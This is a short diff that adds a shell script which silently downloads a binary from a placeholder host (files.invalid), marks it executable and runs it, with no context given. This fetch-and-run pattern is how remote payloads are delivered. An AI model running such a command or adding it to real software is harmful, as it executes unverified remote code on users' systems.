@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -s http://files.invalid/helper -o helper.bin && chmod +x helper.bin && ./helper.bin
